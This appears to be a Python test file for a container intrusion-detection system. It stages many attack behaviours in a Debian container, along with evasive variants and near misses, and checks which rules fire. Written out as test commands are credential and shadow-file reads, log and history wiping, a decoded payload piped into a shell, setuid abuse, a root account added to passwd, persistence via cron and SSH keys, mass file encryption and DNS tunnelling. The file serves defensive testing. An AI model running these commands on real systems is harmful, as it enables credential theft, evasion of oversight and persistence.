#!/usr/bin/env python3
# alone: agent
"""Attacks in a real container of Debian's packages, in full mode and then in lean mode (the default), by our own rules: of each behaviour a trigger, twins that evade rules
that go by names or by one call, and near misses. docs/detection.md has the same table in words.

One case after the other is done in one container; a case is over when the file that ends it has been seen. A trigger and a twin must
raise their rule, and nothing else above notice but what `also` allows; a miss nothing above notice.
"""
import os
import shutil
import subprocess
import sys

import agentlib
import containerlib
import debianlib
import taplib

HERE = agentlib.HERE
QUIET = {"Notice", "Informational", "Debug"}
NOBODY = "192.0.2.1"   # an address that leads nowhere

tap = taplib.Tap(dict(os.environ))


class Deeds:
    """How things are done in the container: by a shell, by Python, by a program."""

    def __init__(self, container):
        self.c = container

    def sh(self, script, **how):
        return self.c.run("/bin/bash", "-c", script, **how)

    def py(self, code, **how):
        return self.c.run("/usr/bin/python3", "-B", "-c", "import sys; sys.path.insert(0, '/usr/lib/deed'); from deed import *\n" + code, **how)

    def run(self, *command, **how):
        return self.c.run(*command, **how)


LOG = "Log file tampered with"
HISTORY = "Shell history removed or redirected"
SWITCHED = "Shell history switched off"
CHANGED = "Program of the image changed"
SECRET = "Secret of the system read by hand"
LINK = "Link to a secret of the system"
SEARCH = "Search for keys or credentials"
CLOUD = "Credentials of a cloud read by hand"
TOKEN = "Token of a service account read by hand"
ENVIRON = "Environment of another process read"
JOB = "Job or service added"
SHELL = "Settings of a shell changed"
KEY = "Key to log in added"
USERS = "Users changed by hand"
PRELOAD = "Dynamic linker told to load a library"
SETUID = "Setuid bit set"
CAPABLE = "Capabilities given to a file"
HIDDEN = "Hidden name"
OWN = "Program deletes its own file"
MAPPED = "Dropped code mapped"
DROPPED = "Dropped program executed"
MEMORY = "Program executed from memory file system"
SCRIPT = "Dropped file run by interpreter"
STREAM = "Standard stream turned to a connection"
TERMINAL = "Terminal shell in container"
PIPE = "Shell takes commands from a pipe"
CONNECTS = "Shell connects to the network"
NAMESPACE = "Namespace made or entered"
MOUNT = "Mount in a container"
ATTACHED = "Process attached to"
ESCAPE = "Way out of the container written"
DISK = "Disk of the host opened"
TIME = "Time of a system file set by hand"
RING = "Calls by a ring, by hand"
KERNEL = "Program for the kernel loaded"
THREAD = "Kernel thread by its title alone"
DESTROYED = "Data destroyed"
SOCKET = "Socket of a container engine"
TUNNEL = "DNS used as a tunnel"
MINER = "Miner greets its pool"
METADATA = "Metadata of the cloud asked by hand"
MEMORY_WRITTEN = "Memory of another process written"
DOWNLOADED = "Program downloaded"
SERVER = ("setsid python3 -B -m http.server 8123 --bind 127.0.0.1 --directory /usr/bin >/dev/null 2>&1 </dev/null & "
          "until (: >/dev/tcp/127.0.0.1/8123) 2>/dev/null; do sleep 0.1; done")
KEPT = "File made immutable or append-only by hand"
UNKEPT = "Protection of a file taken away by hand"
VOLUME = "Program executed from volume"
POSED = "Server by its title alone"
PLACE = "Library preloaded from a place that anybody can write to"
CAPABILITY = "Capability used that few need"

# (row of the table, rule or None, what, how, what else may be raised above notice)
# One byte of another process's stack, as it is.
WRITE_MEMORY = """import subprocess, time
p = subprocess.Popen(['/bin/sleep', '9'])
time.sleep(0.2)
at = [int(l.split('-')[0], 16) for l in open('/proc/%d/maps' % p.pid) if '[stack]' in l][0]
with open('/proc/%d/mem' % p.pid, 'r+b', 0) as file:
    file.seek(at)
    byte = file.read(1)
    file.seek(at)
    file.write(byte)
time.sleep(0.5)
p.kill()
"""

CASES = (
    (4, VOLUME, "a program is put on a volume and run", lambda d: d.sh("cp /bin/true /data/put; /data/put"), ()),
    (4, VOLUME, "twin: by a link, under another title", lambda d: d.sh("ln -s /data/put /opt/l4; exec -a true /opt/l4"), ()),
    (4, SCRIPT, "twin: a script that was put there", lambda d: d.sh("echo true > /data/put.sh; sh /data/put.sh"), ()),
    (4, "Program executed that lay on a volume", "a program that lay there before", lambda d: d.run("/data/lain"), ()),
    (4, None, "miss: a script that lay there before", lambda d: d.sh("sh /data/lain.sh"), ()),
    (6, SCRIPT, "twin: a script in a memfd, by another process's descriptor",
     lambda d: d.py("import subprocess\nm = call('memfd_create', 'x', 0)\nos.write(m, b'#!/bin/sh\\nsleep 1\\n')\nsubprocess.run(['/proc/%d/fd/%d' % (os.getpid(), m)])"), ()),
    (6, SCRIPT, "twin: by its own", lambda d: d.py("m = call('memfd_create', 'x', 0)\nos.write(m, b'sleep 1\\n')\nos.set_inheritable(m, True)\n"
                                                   "os.execv('/bin/sh', ['sh', '/dev/fd/%d' % m])"), ()),
    (3, SCRIPT, "twin: a script that removes itself first", lambda d: d.sh("printf '#!/bin/sh\\nrm $0\\nsleep 1\\n' > /opt/gone.sh; chmod +x /opt/gone.sh; /opt/gone.sh"), ()),
    (7, MAPPED, "a library in a memfd is loaded (dlopen of /proc/self/fd)",
     lambda d: d.py("m = call('memfd_create', 'x', 0)\nos.write(m, open('/usr/lib/x86_64-linux-gnu/libz.so.1', 'rb').read())\n"
                    "ctypes.CDLL('/proc/self/fd/%d' % m)"), ()),
    (7, MAPPED, "twin: a memfd with the name that .NET gives its own, mapped by hand",
     lambda d: d.py("m = call('memfd_create', 'doublemapper', 0)\nos.ftruncate(m, 4096)\nmmap.mmap(m, 4096, prot=mmap.PROT_READ | mmap.PROT_EXEC)"), ()),
    (42, MAPPED, "twin: a dropped library, by LD_PRELOAD",
     lambda d: d.sh("cp /usr/lib/x86_64-linux-gnu/libz.so.1 /opt/a.so; LD_PRELOAD=/opt/a.so /bin/true"), ()),
    (9, MAPPED, "twin: a library in /dev/shm", lambda d: d.sh("cp /usr/lib/x86_64-linux-gnu/libz.so.1 /dev/shm/a.so; LD_PRELOAD=/dev/shm/a.so /bin/true"),
     (PLACE,)),
    (7, None, "miss: a memfd that is only data", lambda d: d.py("m = call('memfd_create', 'x', 0)\nos.ftruncate(m, 4096)\nmmap.mmap(m, 4096)"), ()),
    (7, None, "miss: a dropped file mapped to be read", lambda d: d.py("write('/opt/data', 'x' * 4096)\nmmap.mmap(os.open('/opt/data', 0), 4096, prot=1)"), ()),

    (10, CHANGED, "a program of the image is overwritten", lambda d: d.sh("cat /bin/true > /usr/bin/tac"), ()),
    (10, CHANGED, "twin: renamed over, from Python, through a link to the directory",
     lambda d: d.py("os.symlink('/usr/bin', '/opt/b')\nwrite('/opt/n', 'x')\nos.rename('/opt/n', '/opt/b/rev')"), ()),
    (10, CHANGED, "twin: a link is put in its place", lambda d: d.sh("ln -sf /opt/n /usr/bin/nl"), ()),
    (10, None, "miss: a program is put where the operator puts his own", lambda d: d.sh("cp /bin/true /usr/local/bin/mine"), ()),

    (12, PIPE, "a shell takes commands from a fifo", lambda d: d.sh("mkfifo /tmp/f; (echo true > /tmp/f) & sh < /tmp/f | cat; wait"), ()),
    (31, PIPE, "what was decoded is piped into a shell", lambda d: d.sh("echo dHJ1ZQo= | base64 -d | sh"), ()),
    (31, PIPE, "twin: into bash -s, by another name", lambda d: d.sh("ln -s /bin/bash /opt/q; echo true | /opt/q -s x"), ()),
    (31, PIPE, "twin: into busybox, which is told to be a shell", lambda d: d.sh("echo true | busybox sh"), ()),
    (13, PIPE, "twin: out of a socket, as Node.js relays", lambda d: d.py("import subprocess\na, b = socket.socketpair()\nb.send(b'true\\n')\nb.close()\nsubprocess.run(['/bin/sh'], stdin=a)"), ()),
    (31, None, "miss: a pipe into a shell that has a command", lambda d: d.sh("echo x | sh -c 'cat >/dev/null'"), ()),
    (13, STREAM, "Python turns its output to a socket", lambda d: d.py("s = socket.socket()\nos.dup2(s.fileno(), 1)"), ()),
    (13, STREAM, "twin: dup3 of a UDP socket to the input", lambda d: d.py("s = socket.socket(type=socket.SOCK_DGRAM)\nos.dup2(s.fileno(), 0, False)"), ()),
    (13, STREAM, "twin: close and dup", lambda d: d.py("s = socket.socket()\nos.close(0)\nlibc.dup(s.fileno())"), ()),
    (13, STREAM, "twin: and a shell on a terminal of its own", lambda d: d.py("attach('/bin/sh')"), (TERMINAL,)),
    (13, TERMINAL, "twin: passed on between a socket and a terminal, by no shell's name", lambda d: d.py("os.symlink('/bin/bash', '/opt/gbash')\nrelay('/opt/gbash')"), ()),
    (13, None, "miss: a socket as another descriptor", lambda d: d.py("s = socket.socket()\nos.dup2(s.fileno(), 9)"), ()),
    (30, CONNECTS, "bash opens a connection", lambda d: d.sh("exec 3<>/dev/tcp/%s/80" % NOBODY), ()),
    (30, CONNECTS, "twin: a shell by another name, by UDP", lambda d: d.sh("ln -sf /bin/bash /opt/gbash; /opt/gbash -c 'echo >/dev/udp/%s/53'" % NOBODY), ()),
    (9, None, "miss: bash looks at a port of its own container (a health check)", lambda d: d.sh("exec 3<>/dev/tcp/127.0.0.1/80"), ()),

    (16, LOG, "a log is emptied", lambda d: d.sh(": > /var/log/auth.log"), ()),
    (16, LOG, "twin: through a link to the directory, and ..", lambda d: d.sh("ln -sfn /var/log /opt/l; : > /opt/l/../log/auth.log"), ()),
    (17, LOG, "rm", lambda d: d.sh("rm /var/log/a.log"), ()),
    (17, LOG, "twin: unlinkat from Python, by a directory's descriptor",
     lambda d: d.py("os.unlink('b.log', dir_fd=os.open('/opt/l', os.O_RDONLY))"), ()),
    (17, LOG, "twin: mv", lambda d: d.sh("mv /var/log/c.log /opt/c"), ()),
    (17, LOG, "twin: sed -i", lambda d: d.sh("sed -i /x/d /var/log/d.log"), ()),
    (17, LOG, "twin: cp /dev/null", lambda d: d.sh("cp /dev/null /var/log/d.log"), ()),
    (17, LOG, "twin: find -delete", lambda d: d.sh("find /var/log/old -delete"), ()),
    (18, LOG, "truncate(2)", lambda d: d.py("call('truncate', '/var/log/e.log', 1)"), ()),
    (18, LOG, "twin: ftruncate", lambda d: d.py("os.ftruncate(os.open('/var/log/e.log', os.O_WRONLY), 0)"), ()),
    (18, LOG, "twin: a hole is punched", lambda d: d.py("call('fallocate', os.open('/var/log/f.log', os.O_RDWR), 3, 0, 4096)"), ()),
    (18, LOG, "twin: by its own tool", lambda d: d.sh("fallocate -p -o 0 -l 4096 /var/log/f.log"), ()),
    (17, LOG, "twin: one of the system's, by what is no such tool", lambda d: d.sh("echo x > /var/log/syslog; gzip /var/log/syslog"), ()),
    (18, LOG, "twin: written over in a mapping", lambda d: d.py("mmap.mmap(os.open('/var/log/f.log', os.O_RDWR), 16)[0:1] = b'x'"), ()),
    (18, LOG, "twin: written over in place", lambda d: d.sh("dd if=/dev/zero of=/var/log/f.log bs=1 count=8 conv=notrunc"), (DESTROYED,)),
    (18, LOG, "twin: by the descriptor that is only read, under its name in /proc",
     lambda d: d.py("fd = os.open('/var/log/k.log', os.O_RDONLY)\nos.truncate('/proc/self/fd/%d' % fd, 0)\nos.truncate('/proc/self/root/var/log/k.log', 0)\ntime.sleep(1)"), ()),
    (18, "Link to a log", "twin: by another name of it (a hard link)", lambda d: d.sh("ln /var/log/l.log /opt/other; : > /opt/other"), (LOG,)),
    (18, None, "miss: a link that leads to a log", lambda d: d.sh("ln -s /var/log/f.log /opt/leads"), ()),
    (18, LOG, "twin: a link to nowhere in its place", lambda d: d.sh("ln -sf /dev/null /var/log/g.log"), ()),
    (18, LOG, "twin: exchanged for another (renameat2)",
     lambda d: d.py("write('/opt/e', '')\ncall('renameat2', AT_FDCWD, '/opt/e', AT_FDCWD, '/var/log/f.log', 2)"), ()),
    (18, LOG, "twin: by a program that is not in the image",
     lambda d: d.sh("cp /usr/bin/truncate /opt/t; /opt/t -s 0 /var/log/f.log"), (DROPPED,)),
    (17, LOG, "twin: to another name beside it, one of the system's", lambda d: d.sh("echo x > /var/log/secure; mv /var/log/secure /var/log/secure.1"), ()),
    (17, "Log file set aside by hand", "a log is renamed beside itself", lambda d: d.sh("echo x > /var/log/h.log; mv /var/log/h.log /var/log/h.log.1"), ()),
    (17, LOG, "twin: what was set aside is removed", lambda d: d.sh("rm /var/log/h.log.1"), ()),
    (16, None, "miss: a log is begun", lambda d: d.sh("echo x > /var/log/i.log"), ()),
    (16, LOG, "twin: and begun again", lambda d: d.sh("echo x > /var/log/i.log"), ()),
    (18, None, "miss: a service in Python turns its logs over", lambda d: d.py(
        "import logging.handlers\nh = logging.handlers.RotatingFileHandler('/var/log/j.log', maxBytes=99, backupCount=2)\n"
        "logging.getLogger().addHandler(h)\nfor i in range(30): logging.warning('x' * 30)"), ()),
    (18, None, "miss: a line is appended", lambda d: d.sh("echo x >> /var/log/f.log"), ()),
    (18, None, "miss: a log is read", lambda d: d.sh("cat /var/log/dpkg.log > /dev/null"), ()),
    (18, None, "miss: a file of the same name elsewhere", lambda d: d.sh(": > /opt/auth.log; rm /opt/auth.log"), ()),
    (19, HISTORY, "a history is removed", lambda d: d.sh("touch /root/.bash_history; rm /root/.bash_history"), ()),
    (19, HISTORY, "twin: a link to nowhere", lambda d: d.sh("ln -sf /dev/null /root/.bash_history"), ()),
    (19, HISTORY, "twin: another file in its place", lambda d: d.sh("touch /opt/h; mv /opt/h /root/.bash_history"), ()),
    (19, HISTORY, "twin: of another shell, emptied", lambda d: d.py("write('/root/.zsh_history', 'x')\nwrite('/root/.zsh_history', '')"), ()),
    (19, None, "miss: a history is written on", lambda d: d.sh("echo ls >> /root/.ash_history"), ()),
    (19, SWITCHED, "a shell without a history", lambda d: d.sh("HISTFILE=/dev/null bash -c true; true"), ()),
    (19, SWITCHED, "twin: exported, and seen of what the shell runs", lambda d: d.sh("export HISTFILE=; ls / >/dev/null; true"), ()),
    (19, SWITCHED, "twin: of no size, by env", lambda d: d.sh("env HISTSIZE=0 dash -c true; true"), ()),
    (19, SWITCHED, "twin: from Python, by another name", lambda d: d.py("os.symlink('/bin/bash', '/opt/rbash')\nif os.fork() == 0:\n"
                                                                        " os.execve('/opt/rbash', ['x', '-c', 'true'], {'HISTFILESIZE': '0'})\nos.wait()"), ()),
    (19, None, "miss: another file, another size", lambda d: d.sh("HISTFILE=/root/.h HISTSIZE=1000 bash -c true; true"), ()),
    (19, None, "miss: the environment of the image has it", lambda d: d.sh("bash -c 'ls / >/dev/null; true'; true", env=("HISTFILE=/dev/null", "HISTSIZE=0")), ()),
    (20, TIME, "a program gets an old time", lambda d: d.sh("touch -d 2001-01-01 /usr/bin/cksum"), ()),
    (20, TIME, "twin: from Python, by a link", lambda d: d.py("os.symlink('/usr/bin/cksum', '/opt/ck')\nos.utime('/opt/ck', (1, 1))"), ()),
    (20, None, "miss: a file gets the time of now", lambda d: d.sh("touch /usr/bin/cksum"), ()),
    (21, DESTROYED, "a file is shredded", lambda d: d.sh("echo x > /opt/s; shred -u /opt/s"), ()),
    (21, DESTROYED, "twin: by dd", lambda d: d.sh("dd if=/dev/zero of=/opt/s count=1"), ()),
    (21, "Files removed in numbers by hand", "three hundred files are removed", lambda d: d.py(
        "os.mkdir('/opt/many')\nfor i in range(300): write('/opt/many/%d' % i, '')\nfor i in range(300): os.unlink('/opt/many/%d' % i)"), ()),
    (21, "Files removed in numbers", "miss: where they are kept for a time", lambda d: d.py(
        "os.mkdir('/tmp/many')\nfor i in range(300): write('/tmp/many/%d' % i, '')\nfor i in range(300): os.unlink('/tmp/many/%d' % i)"), ()),
    (21, None, "miss: dd makes a file of the input", lambda d: d.sh("echo x | dd of=/opt/s2"), ()),
    (22, "Files encrypted in numbers", "files are replaced by ones with a suffix", lambda d: d.py(
        "os.mkdir('/opt/docs')\nfor i in range(60):\n  write('/opt/docs/%d.txt' % i, 'x'); write('/opt/docs/%d.txt.enc' % i, 'y'); os.unlink('/opt/docs/%d.txt' % i)"), ()),
    (22, "Files encrypted in numbers", "twin: removed first, then made anew", lambda d: d.py(
        "os.mkdir('/opt/docs2')\nfor i in range(60): write('/opt/docs2/%d.txt' % i, 'x')\nfor i in range(60): os.unlink('/opt/docs2/%d.txt' % i)\n"
        "for i in range(60): write('/opt/docs2/%d.txt.enc' % i, 'y')"), ()),
    (22, "Files encrypted in numbers", "twin: renamed, by a shell and mv",
     lambda d: d.sh("mkdir /opt/r; cd /opt/r; for i in $(seq 60); do echo > $i.doc; mv $i.doc $i.doc.locked; done"), ()),
    (22, None, "miss: sixty files are kept as copies", lambda d: d.sh("mkdir /opt/k; cd /opt/k; for i in $(seq 60); do echo > $i.doc; mv $i.doc $i.doc.bak; done"), ()),
    (22, None, "miss: sixty files are compressed", lambda d: d.sh("mkdir /opt/z; cd /opt/z; for i in $(seq 60); do echo > $i.doc; done; gzip *.doc"), ()),

    (23, SECRET, "shadow is read", lambda d: d.sh("cat /etc/shadow >/dev/null"), ()),
    (23, SECRET, "twin: by a link", lambda d: d.sh("ln -s /etc /opt/etclink; head -1 /opt/etclink/shadow"), ()),
    (23, SECRET, "twin: with .., by Python that calls itself systemd-logind",
     lambda d: d.py("libc.prctl(15, b'systemd-logind', 0, 0, 0)\nopen('/opt/etclink/../etc/./shadow').read()"), (POSED,)),
    (23, SECRET, "twin: getent", lambda d: d.sh("getent shadow root"), ()),
    (23, SECRET, "twin: openat2", lambda d: d.py("call('openat2', AT_FDCWD, '/etc/shadow', struct.pack('QQQ', 0, 0, 0), 24)"), ()),
    (23, SECRET, "twin: a copied tool", lambda d: d.sh("cp /bin/cat /opt/sshd; /opt/sshd /etc/shadow >/dev/null"), (DROPPED,)),
    (23, LINK, "twin: by a hard link", lambda d: d.py("os.link('/etc/shadow', '/etc/hard')\nopen('/etc/hard').read()"), (SECRET,)),
    (23, None, "miss: passwd, which everybody reads", lambda d: d.sh("cat /etc/passwd >/dev/null"), ()),
    (23, None, "miss: what may read shadow does", lambda d: d.run("/usr/bin/chage", "-l", "root"), ()),
    (24, SEARCH, "grep for keys", lambda d: d.sh("grep -r 'BEGIN RSA PRIVATE' /etc/ssl >/dev/null"), ()),
    (24, SEARCH, "twin: find by name", lambda d: d.sh("find /root -name id_rsa"), ()),
    (24, SEARCH, "twin: of any kind", lambda d: d.sh("find /root -iname 'id_*'"), ()),
    (24, SEARCH, "twin: in other words", lambda d: d.sh("grep -rE '(EC|OPENSSH) PRIVATE KEY' /opt"), ()),
    (25, SEARCH, "grep for an access key", lambda d: d.sh("grep -r AKIA /opt"), ()),
    (24, SEARCH, "find, everywhere", lambda d: d.sh("timeout 9 find / -xdev -name '*.pem' >/dev/null"), ()),
    (24, None, "miss: a shell writes what is called so", lambda d: d.sh("/bin/sh -c 'echo aws_access_key_id = AKIA >/opt/k1; echo BEGIN RSA PRIVATE KEY >/opt/k2'"), ()),
    (24, None, "miss: find certificates where they lie", lambda d: d.sh("find /etc/ssl -name '*.pem' >/dev/null"), ()),
    (24, SECRET, "twin: a private key is read", lambda d: d.sh("mkdir -p /root/.ssh; touch /root/.ssh/id_rsa; cat /root/.ssh/id_rsa"), ()),
    (24, None, "miss: find for something else", lambda d: d.sh("find /etc -name passwd >/dev/null"), ()),
    (25, CLOUD, "credentials are read", lambda d: d.sh("cat /root/.aws/credentials"), ()),
    (25, CLOUD, "twin: from Python, by a link", lambda d: d.py("os.symlink('/root/.aws', '/opt/aws')\nopen('/opt/aws/credentials').read()"), ()),
    (25, None, "miss: what else lies there", lambda d: d.sh("cat /root/.aws/config"), ()),
    (26, ENVIRON, "the environment of another process", lambda d: d.sh("cat /proc/1/environ >/dev/null"), ()),
    (26, ENVIRON, "twin: by its root", lambda d: d.sh("cat /proc/self/root/proc/1/environ >/dev/null"), ()),
    (26, ENVIRON, "twin: by what only calls itself ps", lambda d: d.sh("cp /bin/cat /opt/ps; /opt/ps /proc/1/environ >/dev/null"), (DROPPED,)),
    (26, None, "miss: its own", lambda d: d.sh("cat /proc/self/environ >/dev/null; cat /proc/1/cgroup >/dev/null"), ()),
    (27, TOKEN, "a token of Kubernetes", lambda d: d.sh("cat /var/run/secrets/kubernetes.io/serviceaccount/token"), ()),
    (27, TOKEN, "twin: by its link", lambda d: d.py("open('/var/run/secrets/kubernetes.io/serviceaccount/..data/token').read()"), ()),
    (27, None, "miss: what stands beside it", lambda d: d.sh("cat /var/run/secrets/kubernetes.io/serviceaccount/namespace"), ()),
    (28, METADATA, "the metadata service is asked", lambda d: d.sh("curl -s -m 1 http://169.254.169.254/latest"), ()),
    (28, METADATA, "twin: from Python", lambda d: d.py("try_connect('169.254.169.254', 80)"), ()),
    (28, None, "miss: the next address", lambda d: d.sh("curl -s -m 1 http://169.254.169.253/latest"), ()),
    (29, "Download tool", "curl stores a file", lambda d: d.sh("curl -s -m 1 -O http://%s/x" % NOBODY), ()),
    (30, DOWNLOADED, "Python stores a program", lambda d: d.sh("python3 -B -c \"from urllib.request import *; urlretrieve('http://127.0.0.1:8123/true', '/opt/d1')\""), ()),
    (30, DOWNLOADED, "twin: perl", lambda d: d.sh("perl -MIO::Socket -e '$s = IO::Socket::INET->new(\"127.0.0.1:8123\"); print $s \"GET /true HTTP/1.0\\r\\n\\r\\n\"; "
        "while (<$s>) { last if /^\\r/ } open O, \">/opt/d2\"; print O $_ while <$s>'"), ()),
    (30, DOWNLOADED, "twin: wget of busybox", lambda d: d.sh("busybox wget -q -O /opt/d3 http://127.0.0.1:8123/true"), ()),
    (30, DOWNLOADED, "twin: a shell hands the connection to cat; a script", lambda d: d.sh(
        "exec 3<>/dev/tcp/127.0.0.1/8123; printf 'GET /gunzip HTTP/1.0\\r\\n\\r\\n' >&3; sed -u '/^\\r$/q' <&3 >/dev/null; cat <&3 >/opt/d4"), ("Standard stream turned to a connection",)),
    (30, DOWNLOADED, "twin: through a pipe", lambda d: d.sh("curl -s http://127.0.0.1:8123/true | cat >/opt/d5"), ()),
    (30, DOWNLOADED, "twin: written elsewhere, then moved", lambda d: d.sh("curl -s -o /opt/d6.part http://127.0.0.1:8123/true; mv /opt/d6.part /usr/local/bin/d6"), ()),
    (30, "Program installed from the network", "by what installs packages of a language, as far as its name says",
     lambda d: d.sh("mkdir -p /opt/l; echo 'from urllib.request import *; urlretrieve(\"http://127.0.0.1:8123/true\", \"/opt/l/d9\")' >/opt/l/pip3; cp /opt/l/pip3 /usr/local/bin/pip3; "
                    "python3 -B /usr/local/bin/pip3 install x"), ("Program of the image changed", "Dropped file run by interpreter")),
    (30, None, "miss: what is no program", lambda d: d.sh("curl -s -o /opt/d7 http://127.0.0.1:8123/"), ()),
    (30, None, "miss: a program that was not downloaded", lambda d: d.sh("cp /bin/true /opt/d8"), ()),
    (30, "Download tool", "twin: wget of busybox; openssl", lambda d: d.sh("busybox wget -T 1 http://%s/x; openssl s_client -connect %s:443 </dev/null" % (NOBODY, NOBODY)), ()),
    (32, "Ports scanned", "ports are scanned, by Python", lambda d: d.py("for port in range(1, 40): try_connect('%s', port)" % NOBODY), ()),
    (32, "Ports scanned", "twin: by bash", lambda d: d.sh("for p in $(seq 100 130); do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true"), ()),
    (32, "Network swept", "addresses are swept", lambda d: d.py("for host in range(1, 40): try_connect('198.51.100.%d' % host, 22)"), ()),
    (32, None, "miss: a pool of connections to one port", lambda d: d.py("for i in range(60): try_connect('%s', 5432)" % NOBODY), ()),
    (33, CAPABILITY, "a raw socket", lambda d: d.py("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"), ()),
    (33, "Packet socket", "a packet socket", lambda d: d.py("socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3)"), ()),
    (33, None, "miss: a UDP socket", lambda d: d.py("socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"), ()),

    (34, TUNNEL, "a tunnel asks a resolver of its own", lambda d: d.py("tunnel(lambda s, q, to: s.sendto(q, to), '127.0.0.53')"), ()),
    (34, TUNNEL, "twin: by a connection, and write", lambda d: d.py("tunnel(lambda s, q, to: (s.connect(to), os.write(s.fileno(), q)), '127.0.0.54')"), ()),
    (34, TUNNEL, "twin: by sendmmsg, many at once", lambda d: d.py("tunnel(lambda s, q, to: (s.connect(to), send_many(s, q)), '127.0.0.55', 20)"), ()),
    (34, TUNNEL, "twin: over IPv6, by another process for each", lambda d: d.py("tunnel(in_a_child, '::1')"), ()),
    (34, TUNNEL, "twin: shorter questions, with one long label", lambda d: d.py("for i in range(150): ask('127.0.0.59', question('%043d.t.org' % i, 1))"), ()),
    (34, TUNNEL, "twin: shorter ones, for text", lambda d: d.py("for i in range(150): ask('127.0.0.60', question('%024d.t.org' % i))"), ()),
    (34, None, "miss: names of services, for addresses", lambda d: d.py(
        "for i in range(200): ask('127.0.0.61', question('prometheus-kube-prometheus-node-%03d.monitoring.svc.cluster.local' % i, 1))"), ()),
    (34, None, "miss: five hundred names are looked up", lambda d: d.py("for i in range(500): ask('127.0.0.56', question('host-%d.example.org' % i))"), ()),
    (34, None, "miss: and texts of short names", lambda d: d.py("for i in range(200): ask('127.0.0.62', question('s%d._domainkey.example.org' % i))"), ()),
    (34, None, "miss: thirty long ones are", lambda d: d.py("for i in range(30): ask('127.0.0.57', question(LONG))"), ()),
    (34, None, "miss: long datagrams to another port", lambda d: d.py("for i in range(200): ask('127.0.0.58', question(LONG), 5353)"), ()),
    (35, MINER, "a miner logs in", lambda d: d.py("greet('{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"w\",\"pass\":\"x\"}}\\n')"), ()),
    (35, MINER, "twin: by a program that is called nginx, in other words",
     lambda d: d.sh("cp /usr/bin/python3.11 /opt/nginx; PYTHONPATH=/usr/lib/deed /opt/nginx -B -c 'from deed import *; greet(MINING)'"), (DROPPED,)),
    (35, MINER, "twin: by a shell, over IPv6", lambda d: d.py("greet('{\"worker\": \"eth1.0\", \"method\": \"eth_submitLogin\"}\\n', '::1', 'bash')"), (STREAM,)),
    (35, None, "miss: another call of JSON-RPC; the words within a page",
     lambda d: d.py("greet('{\"id\":1,\"method\":\"login\",\"params\":{\"user\":\"u\"}}\\n')\ngreet('POST / HTTP/1.0\\r\\n\\r\\n{\"method\":\"mining.subscribe\"}')"), ()),
    (37, JOB, "a job of cron", lambda d: d.sh("echo x > /etc/cron.d/x"), ()),
    (37, JOB, "twin: moved in", lambda d: d.sh("echo x > /opt/job; mv /opt/job /etc/cron.hourly/job"), ()),
    (37, JOB, "twin: of another cron", lambda d: d.sh("mkdir -p /etc/crontabs /root/.config/systemd/user; echo x > /etc/crontabs/root"), ()),
    (37, JOB, "twin: a unit of a user", lambda d: d.sh("echo x > /root/.config/systemd/user/x.service"), ()),
    (37, JOB, "twin: a unit of systemd, by a link to its directory",
     lambda d: d.py("os.makedirs('/etc/systemd/system', exist_ok=True)\nos.symlink('/etc/systemd', '/opt/sd')\nwrite('/opt/sd/system/x.service', '')"), ()),
    (37, None, "miss: jobs are listed", lambda d: d.sh("cat /etc/crontab >/dev/null; ls /etc/cron.d"), ()),
    (38, SHELL, "bashrc", lambda d: d.sh("echo x >> /root/.bashrc"), ()),
    (38, SHELL, "twin: sed -i", lambda d: d.sh("sed -i s/a/a/ /root/.bashrc"), ()),
    (38, SHELL, "twin: profile.d through a link", lambda d: d.sh("ln -s /etc /opt/e2; echo x > /opt/e2/profile.d/x.sh"), ()),
    (38, None, "miss: it is read", lambda d: d.sh(". /root/.bashrc"), ()),
    (39, KEY, "a key is added", lambda d: d.sh("mkdir -p /root/.ssh; echo x >> /root/.ssh/authorized_keys"), ()),
    (39, KEY, "twin: a file renamed to it", lambda d: d.py("write('/root/.ssh/n', 'x')\nos.rename('/root/.ssh/n', '/root/.ssh/authorized_keys')"), ()),
    (39, USERS, "a user in passwd", lambda d: d.sh("echo 'x::0:0::/:/bin/sh' >> /etc/passwd"), ()),
    (39, USERS, "twin: by the descriptor of its directory", lambda d: d.py("fd = os.open('passwd', os.O_WRONLY | os.O_APPEND, dir_fd=os.open('/etc', 0))"), ()),
    (39, "User management", "useradd", lambda d: d.run("/usr/sbin/useradd", "-M", "somebody"), ()),
    (40, SETUID, "chmod 4755", lambda d: d.sh("cp /bin/true /opt/su; chmod 4755 /opt/su"), ()),
    (40, SETUID, "twin: fchmod", lambda d: d.sh("chmod 755 /opt/su; sleep 0.1")[0] or d.py("os.fchmod(os.open('/opt/su', 0), 0o4755)"), ()),
    (40, SETUID, "twin: fchmodat2", lambda d: d.sh("chmod 755 /opt/su; sleep 0.1")[0] or d.py("call('fchmodat2', AT_FDCWD, '/opt/su', 0o4755, 0)"), ()),
    (40, SETUID, "twin: made with it", lambda d: d.py("write('/opt/su2', 'x', mode=0o4755)"), ()),
    (40, CAPABLE, "capabilities", lambda d: d.py("os.setxattr('/opt/su', 'security.capability', bytes.fromhex('0100000280000000000000000000000000000000'))"), ()),
    (40, None, "miss: chmod 755", lambda d: d.sh("chmod 755 /opt/su; chmod 2755 /opt/docs"), ()),
    (40, "Setgid bit set", "chmod g+s", lambda d: d.sh("chmod g+s /opt/su"), ()),
    (41, "Setuid tool used", "a tool with a setuid bit is used by another user",
     lambda d: d.sh("chmod 4755 /usr/bin/od; setpriv --reuid 1000 --clear-groups /usr/bin/od /dev/null"), (SETUID, DROPPED)),
    (41, "Setuid program that is not known", "a program of the image that nobody knows, by another user",
     lambda d: d.sh("setpriv --reuid 1000 --clear-groups /usr/bin/helper noop x"), ()),
    (41, "Root rights taken", "a capability to become root is used",
     lambda d: d.sh("cp /usr/bin/python3.11 /opt/py; setcap cap_setuid+ep /opt/py 2>/dev/null || "
                    "python3 -c \"import os; os.setxattr('/opt/py', 'security.capability', bytes.fromhex('0100000280000000000000000000000000000000'))\"; "
                    "setpriv --reuid 1000 --clear-groups /opt/py -c 'import os; os.setuid(0)'"), (CAPABLE, DROPPED)),
    (41, None, "miss: rights are given up", lambda d: d.sh("setpriv --reuid 33 --clear-groups /bin/true"), ()),
    (42, PRELOAD, "ld.so.preload", lambda d: d.sh("echo > /etc/ld.so.preload; rm /etc/ld.so.preload"), ()),
    (42, PRELOAD, "twin: by a link", lambda d: d.py("os.symlink('/opt/none', '/etc/ld.so.preload')\nos.unlink('/etc/ld.so.preload')"), ()),
